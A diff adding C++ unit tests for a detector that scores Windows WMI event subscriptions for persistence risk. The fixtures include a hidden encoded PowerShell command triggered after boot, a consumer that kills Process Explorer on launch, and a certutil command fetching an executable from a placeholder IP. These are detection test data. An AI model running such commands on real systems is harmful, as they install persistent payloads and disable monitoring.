@@ -1,0 +1,176 @@
+// Tests for wmisub/assess.hpp: scoring, policy and the quality bar on the shared corpus.
+#include "wmisub/assess.hpp"
+
+#include "wmisub/collector.hpp"
+
+#include <doctest/doctest.h>
+
+#if __has_include(<nlohmann/json.hpp>)
+#include "corpus.hpp"
+#define WMISUB_TEST_HAS_CORPUS 1
+#endif
+
+#include <string>
+#include <vector>
+
+using namespace wmisub;
+
+namespace {
+
+finding finding_of(severity s, std::string id = "X") { return finding{std::move(id), s, "t", {}, {}}; }
+
+std::vector<assessment> assess_source(mock_collector& source, const policy& p = {}) {
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    static std::vector<snapshot> keep;  // the assessments point into their snapshot
+    keep.push_back(std::move(*snap));
+    const subscription_graph graph(keep.back());
+    return assess(graph, rule_catalog::builtin(), p);
+}
+
+}  // namespace
+
+TEST_CASE("the scoring model combines findings as independent evidence") {
+    CHECK(score_findings({}).score == 0);
+    CHECK(score_findings({}).severity == severity::info);
+    CHECK(score_findings({finding_of(severity::info)}).score == 0);
+    CHECK(score_findings({finding_of(severity::low)}).score == 15);
+    CHECK(score_findings({finding_of(severity::low)}).severity == severity::low);
+    CHECK(score_findings({finding_of(severity::medium)}).severity == severity::medium);
+    CHECK(score_findings({finding_of(severity::high)}).score == 60);
+    CHECK(score_findings({finding_of(severity::high)}).severity == severity::high);
+    CHECK(score_findings({finding_of(severity::critical)}).severity == severity::critical);
+    CHECK(score_findings({finding_of(severity::medium), finding_of(severity::medium)}).severity == severity::medium);
+    CHECK(score_findings({finding_of(severity::medium), finding_of(severity::medium), finding_of(severity::low)}).severity ==
+          severity::high);
+    const risk many = score_findings(std::vector<finding>(20, finding_of(severity::critical)));
+    CHECK(many.score == 100);
+    CHECK(severity_of_score(84) == severity::high);
+    CHECK(severity_of_score(14) == severity::info);
+}
+
+TEST_CASE("findings carry rule, severity, title, techniques and evidence, highest first") {
+    mock_collector source;
+    source.filter("F", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
+                       "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325")
+        .command_line_consumer("C", "powershell.exe -nop -w hidden -enc SQBFAFgA")
+        .bind("F", "C");
+    const auto results = assess_source(source);
+    REQUIRE(results.size() == 1);
+    const assessment& a = results[0];
+    REQUIRE_FALSE(a.findings.empty());
+    for (std::size_t i = 1; i < a.findings.size(); ++i) CHECK(a.findings[i - 1].severity >= a.findings[i].severity);
+    bool boot = false;
+    for (const finding& f : a.findings) {
+        CHECK_FALSE(f.title.empty());
+        CHECK_FALSE(f.evidence.empty());
+        if (f.rule == "WMISUB-TRG-001") {
+            boot = true;
+            CHECK(f.severity == severity::high);  // escalated: the consumer runs code
+            CHECK(f.evidence[0].field == "Filter.Query");
+            CHECK(f.evidence[0].detail == "runs 240–325 s after boot");
+            CHECK(f.techniques[0] == "T1546.003");
+        }
+    }
+    CHECK(boot);
+    CHECK(a.risk.severity == severity::critical);
+    CHECK(a.facts.trigger->trigger.kind == trigger_kind::startup);
+    CHECK(a.facts.payload->has(indicator_kind::encoded_command));
+}
+
+TEST_CASE("policy: disabled rules, severity overrides and allow-listed content") {
+    mock_collector source;
+    source.filter("F", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
+        .command_line_consumer("C", "taskkill /f /im procexp64.exe")
+        .bind("F", "C");
+    const auto plain = assess_source(source);
+    CHECK(plain[0].risk.severity >= severity::high);
+
+    policy quiet;
+    quiet.disabled_rules = {"WMISUB-TRG-003", "WMISUB-CMB-001"};
+    quiet.severity_overrides = {{"WMISUB-PAY-015", severity::info}};
+    const auto tuned = assess_source(source, quiet);
+    for (const finding& f : tuned[0].findings) {
+        CHECK(f.rule != "WMISUB-TRG-003");
+        if (f.rule == "WMISUB-PAY-015") CHECK(f.severity == severity::info);
+    }
+    CHECK(tuned[0].risk.score < plain[0].risk.score);
+
+    policy allow;
+    allow.allowed_fingerprints = {fingerprint(*plain[0].facts.filter), fingerprint(*plain[0].facts.consumer)};
+    const auto allowed = assess_source(source, allow);
+    CHECK(allowed[0].allow_listed);
+    CHECK(allowed[0].risk.severity == severity::info);
+    CHECK_FALSE(allowed[0].findings.empty());  // kept for the record
+
+    // The same names with another payload are not allow-listed: content, never names.
+    mock_collector changed;
+    changed.filter("F", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'")
+        .command_line_consumer("C", "powershell -enc SQBFAFgA")
+        .bind("F", "C");
+    CHECK_FALSE(assess_source(changed, allow)[0].allow_listed);
+}
+
+#ifdef WMISUB_TEST_HAS_CORPUS
+namespace {
+
+snapshot entry_snapshot(const wmisub_test::corpus_entry& e) {
+    snapshot snap;
+    if (e.filter) snap.add(*e.filter, e.id);
+    if (e.consumer) snap.add(*e.consumer, e.id);
+    const value* consumer_name = e.consumer ? e.consumer->get("Name") : nullptr;
+    if (e.bound && e.filter && consumer_name != nullptr && consumer_name->as_string() != nullptr) {
+        instance b = wmisub_test::make_corpus_instance(e.namespace_path, "__FilterToConsumerBinding", e.id);
+        b.set("Filter", value::reference("__EventFilter.Name=" + quote_key_value(*e.filter->get("Name")->as_string())));
+        b.set("Consumer", value::reference(e.consumer->class_name + ".Name=" + quote_key_value(*consumer_name->as_string())));
+        snap.add(b, e.id);
+    }
+    return snap;
+}
+
+severity worst(const wmisub_test::corpus_entry& e) {
+    const snapshot snap = entry_snapshot(e);
+    const subscription_graph graph(snap);
+    severity s = severity::info;
+    for (const assessment& a : assess(graph, rule_catalog::builtin())) s = std::max(s, a.risk.severity);
+    return s;
+}
+
+}  // namespace
+
+TEST_CASE("quality bar: attacks of high or medium confidence score high or above") {
+    WMISUB_REQUIRE_SHARED(file, "corpus/attacks.jsonl");
+    std::size_t checked = 0;
+    for (const auto& e : wmisub_test::load_corpus(file)) {
+        const std::string confidence = wmisub_test::string_field(e.raw, "confidence");
+        if (confidence != "high" && confidence != "medium") continue;
+        CAPTURE(e.id);
+        CHECK(worst(e) >= severity::high);
+        ++checked;
+    }
+    CHECK(checked >= 30);
+}
+
+TEST_CASE("quality bar: no benign subscription scores high; Windows built-ins are info or low") {
+    WMISUB_REQUIRE_SHARED(file, "corpus/benign.jsonl");
+    for (const auto& e : wmisub_test::load_corpus(file)) {
+        CAPTURE(e.id);
+        const severity s = worst(e);
+        CHECK(s < severity::high);
+        if (e.family == "windows-builtin") CHECK(s <= severity::low);
+    }
+}
+
+TEST_CASE("a copy of a benign built-in's names with a new payload scores as the payload deserves") {
+    WMISUB_REQUIRE_SHARED(file, "corpus/benign.jsonl");
+    for (auto e : wmisub_test::load_corpus(file)) {
+        if (e.family != "windows-builtin" || !e.consumer) continue;
+        CAPTURE(e.id);
+        instance evil = wmisub_test::make_corpus_instance(e.namespace_path, "CommandLineEventConsumer", e.id);
+        evil.set("Name", *e.consumer->get("Name"));
+        evil.set("CommandLineTemplate", value::string("cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe"));
+        e.consumer = evil;
+        CHECK(worst(e) >= severity::high);
+    }
+}
+#endif
